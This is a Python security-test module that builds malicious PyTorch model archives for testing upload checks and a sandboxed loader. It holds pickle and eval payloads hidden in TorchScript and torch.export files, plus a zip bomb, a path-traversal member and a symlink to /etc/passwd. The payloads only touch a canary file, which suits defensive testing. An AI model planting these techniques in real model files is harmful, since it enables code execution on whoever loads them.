"""Builders of malicious model archives: pickles, zip bombs, traversal and link members.

Each ``build_*`` function writes one file into ``directory`` and returns its path. All but
``build_pickle_in_torchscript_layout`` must be refused by the upload checks.

The torch.export attacks (``EXPORT_ATTACKS``) are ordinary ``.pt2`` files of the normal model
with one part edited so that ``torch.export.load`` runs a payload. Each payload creates
``canary`` when the canary's folder exists (so on the host, never inside the sandbox) and
otherwise lets the model load and score normally: an attack that ran can only be seen from its
success, so a loader that is not fooled must fail to load the file.
"""

from __future__ import annotations

import io
import json
import pickle
import stat
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch

from tests.security.models import INPUT_SHAPE, MIB, build_normal_model


class _CreatesFile:
    """Unpickling this calls open(path, "w"): proof that a pickle was executed."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return (open, (self.path, "w"))


def build_pickle_payload(directory: Path, canary: Path) -> Path:
    """A raw pickle named like a model; unpickling it would create ``canary``."""
    path = directory / "model.pt"
    directory.mkdir(parents=True, exist_ok=True)
    path.write_bytes(pickle.dumps(_CreatesFile(str(canary)), protocol=2))
    return path


def _copy_archive(
    source: Path,
    target: Path,
    replace: dict[str, bytes] | None = None,
    extra: list[tuple[zipfile.ZipInfo, bytes]] | None = None,
) -> Path:
    replace = replace or {}
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(target, "w") as copy:
        for info in original.infolist():
            data = original.read(info)
            for suffix, payload in replace.items():
                if info.filename.endswith(suffix):
                    data = payload
            copy.writestr(info, data)
        for info, data in extra or []:
            copy.writestr(info, data)
    return target


def build_pickle_in_torchscript_layout(directory: Path, canary: Path) -> Path:
    """A TorchScript archive whose ``data.pkl`` is a payload that would create ``canary``.

    It passes the upload checks (the layout is right); only the sandboxed loader sees it.
    """
    normal = build_normal_model(directory / "base")
    payload = pickle.dumps(_CreatesFile(str(canary)), protocol=2)
    return _copy_archive(normal, directory / "pickle-in-archive.pt", {"/data.pkl": payload})


def build_zip_bomb(directory: Path, *, expanded_bytes: int = 64 * MIB) -> Path:
    """A TorchScript-shaped archive with one member of ``expanded_bytes`` zeros, deflated."""
    normal = build_normal_model(directory / "base")
    path = directory / "zip-bomb.pt"
    _copy_archive(normal, path)
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        root = archive.namelist()[0].split("/")[0]
        with archive.open(f"{root}/data/bomb", "w", force_zip64=True) as member:
            zeros = bytes(MIB)
            for _ in range(expanded_bytes // MIB):
                member.write(zeros)
    return path


def build_traversal_archive(directory: Path, *, name: str = "archive/../../evil.py") -> Path:
    """A TorchScript archive with an extra member named ``name`` (``..`` or absolute)."""
    normal = build_normal_model(directory / "base")
    info = zipfile.ZipInfo(name)
    safe = name.replace("/", "_").replace(".", "_")
    return _copy_archive(normal, directory / f"traversal-{safe}.pt", extra=[(info, b"print(1)")])


def build_symlink_archive(directory: Path, *, target: str = "/etc/passwd") -> Path:
    """A TorchScript archive with an extra member that is a symbolic link to ``target``."""
    normal = build_normal_model(directory / "base")
    with zipfile.ZipFile(normal) as original:
        root = original.namelist()[0].split("/")[0]
    info = zipfile.ZipInfo(f"{root}/data/link")
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return _copy_archive(normal, directory / "symlink.pt", extra=[(info, target.encode())])


def build_many_member_zip(directory: Path, *, members: int = 1_100_000, zip64: bool | None = None) -> Path:
    """A zip of ``members`` empty stored files (~90 bytes each on disk), written directly.

    Above 65,535 members (or with ``zip64=True``) it ends with zip64 end records, as Python's
    zipfile writes them, so the true count is declared.
    """
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "many-members.pt"
    zip64 = members > 0xFFFF if zip64 is None else zip64
    central = bytearray()
    with open(path, "wb") as handle:
        offset = 0
        for index in range(members):
            name = f"m/{index:07d}".encode()
            local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name
            handle.write(local)
            central += (
                struct.pack(
                    "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0, 0, 0, 0, 0, offset
                )
                + name
            )
            offset += len(local)
        handle.write(central)
        if zip64:
            record_offset = offset + len(central)
            handle.write(
                struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, members, members, len(central), offset)
            )
            handle.write(struct.pack("<4sIQI", b"PK\x06\x07", 0, record_offset, 1))
        count = min(members, 0xFFFF)
        handle.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(central), offset, 0))
    return path


# torch.export archives that run code when loaded ------------------------------------------


class _Evaluates:
    """Unpickling this evaluates ``expression`` with Python's eval."""

    def __init__(self, expression: str) -> None:
        self.expression = expression

    def __reduce__(self):
        return (eval, (self.expression,))


def _touch(canary: Path) -> str:
    """A Python expression that creates ``canary`` if its folder exists and is None."""
    return f"(open({str(canary)!r}, 'w').close() if __import__('os').path.isdir({str(canary.parent)!r}) else None)"


def _quietly(canary: Path, value: str) -> str:
    """An expression that touches ``canary`` and then evaluates to ``value``."""
    return f"({_touch(canary)}, {value})[1]"


def _torch_saved(payload: object) -> bytes:
    buffer = io.BytesIO()
    torch.save(payload, buffer)
    return buffer.getvalue()


def _member(archive: Path, suffix: str) -> bytes:
    with zipfile.ZipFile(archive) as opened:
        return opened.read(next(n for n in opened.namelist() if n.endswith(suffix)))


def _normal_export(directory: Path) -> tuple[Path, str]:
    normal = build_normal_model(directory / "base", model_format="torch.export")
    with zipfile.ZipFile(normal) as opened:
        return normal, opened.namelist()[0].split("/")[0]


def build_export_with_pickled_sample_inputs(directory: Path, canary: Path) -> Path:
    """A .pt2 whose ``data/sample_inputs/model.pt`` is a torch.save of a payload.

    torch loads it with weights_only=True, and on failure again with weights_only=False.
    """
    normal, _ = _normal_export(directory)
    value = f"((__import__('torch').zeros(2, {', '.join(map(str, INPUT_SHAPE))}),), {{}})"
    payload = _torch_saved(_Evaluates(_quietly(canary, value)))
    return _copy_archive(normal, directory / "pickled-sample-inputs.pt2", {"/data/sample_inputs/model.pt": payload})


def build_export_with_pickled_weight(directory: Path, canary: Path) -> Path:
    """A .pt2 whose first weight is marked ``use_pickle`` and is a torch.save of a payload."""
    normal, _ = _normal_export(directory)
    config = json.loads(_member(normal, "/data/weights/model_weights_config.json"))
    entry = next(iter(config["config"].values()))
    entry["use_pickle"] = True
    shape = ", ".join(str(size["as_int"]) for size in entry["tensor_meta"]["sizes"])
    value = f"__import__('torch').nn.Parameter(__import__('torch').zeros({shape}))"
    payload = _torch_saved(_Evaluates(_quietly(canary, value)))
    return _copy_archive(
        normal,
        directory / "pickled-weight.pt2",
        {
            "/data/weights/model_weights_config.json": json.dumps(config).encode(),
            f"/data/weights/{entry['path_name']}": payload,
        },
    )


def build_export_with_opaque_constant(directory: Path, canary: Path) -> Path:
    """A .pt2 with an unused constant stored as ``opaque_obj_0``, which torch pickle.loads."""
    normal, root = _normal_export(directory)
    config = json.loads(_member(normal, "/data/constants/model_constants_config.json"))
    config["config"]["unused"] = {
        "path_name": "opaque_obj_0",
        "is_param": False,
        "use_pickle": True,
        "tensor_meta": None,
    }
    value = "__import__('torch').zeros(1)"
    payload = pickle.dumps(_Evaluates(_quietly(canary, value)), protocol=2)
    return _copy_archive(
        normal,
        directory / "opaque-constant.pt2",
        {"/data/constants/model_constants_config.json": json.dumps(config).encode()},
        extra=[(zipfile.ZipInfo(f"{root}/data/constants/opaque_obj_0"), payload)],
    )


def _edit_program(directory: Path, name: str, edit: Callable[[dict], None]) -> Path:
    normal, _ = _normal_export(directory)
    program = json.loads(_member(normal, "/models/model.json"))
    edit(program)
    return _copy_archive(normal, directory / name, {"/models/model.json": json.dumps(program).encode()})


def build_export_with_guard_code(directory: Path, canary: Path) -> Path:
    """A .pt2 whose ``guards_code`` holds Python that torch compiles into the module."""

    def edit(program: dict) -> None:
        program["guards_code"] = [f"{_touch(canary)} is None"]

    return _edit_program(directory, "guard-code.pt2", edit)


def build_export_with_shape_expression_code(directory: Path, canary: Path) -> Path:
    """A .pt2 whose first symbolic size hides Python in what torch hands to sympy.sympify."""

    def edit(program: dict) -> None:
        for value in program["graph_module"]["graph"]["tensor_values"].values():
            size = value["sizes"][0]
            if "as_expr" in size:
                expression = size["as_expr"]["expr_str"]
                size["as_expr"]["expr_str"] = f"{expression} + 0*len([{_touch(canary)}])"
                return
        raise AssertionError("the normal model has no symbolic batch size")

    return _edit_program(directory, "shape-expression-code.pt2", edit)


def build_export_with_native_code(directory: Path) -> Path:
    """A .pt2 that also carries an AOTInductor folder (a shared library torch would load)."""
    normal, root = _normal_export(directory)
    folder = f"{root}/data/aotinductor/model"
    return _copy_archive(
        normal,
        directory / "native-code.pt2",
        extra=[
            (zipfile.ZipInfo(f"{folder}/model.wrapper.so"), b"\x7fELF not really a library"),
            (zipfile.ZipInfo(f"{folder}/model.wrapper_metadata.json"), b"{}"),
        ],
    )


def build_torchscript_calling_eval(directory: Path, canary: Path) -> Path:
    """A TorchScript archive whose ``data.pkl`` calls builtins.eval to create ``canary``."""
    normal = build_normal_model(directory / "base")
    payload = pickle.dumps(_Evaluates(_touch(canary)), protocol=2)
    return _copy_archive(normal, directory / "calls-eval.pt", {"/data.pkl": payload})


# Attacks whose payload a plain torch.export.load runs, with the words their refusal names.
EXPORT_ATTACKS: dict[str, tuple[Callable[[Path, Path], Path], tuple[str, ...]]] = {
    "pickled sample inputs": (
        build_export_with_pickled_sample_inputs,
        ("sample_inputs/model.pt", "would call builtins.eval"),
    ),
    "a pickled weight": (build_export_with_pickled_weight, ("weight_0", "builtins.eval")),
    "an opaque constant": (build_export_with_opaque_constant, ("opaque_obj_0", "pickled Python object")),
    "guard code": (build_export_with_guard_code, ("a guard", "would run code")),
    "a shape expression": (build_export_with_shape_expression_code, ("a shape expression", "would run code")),
}
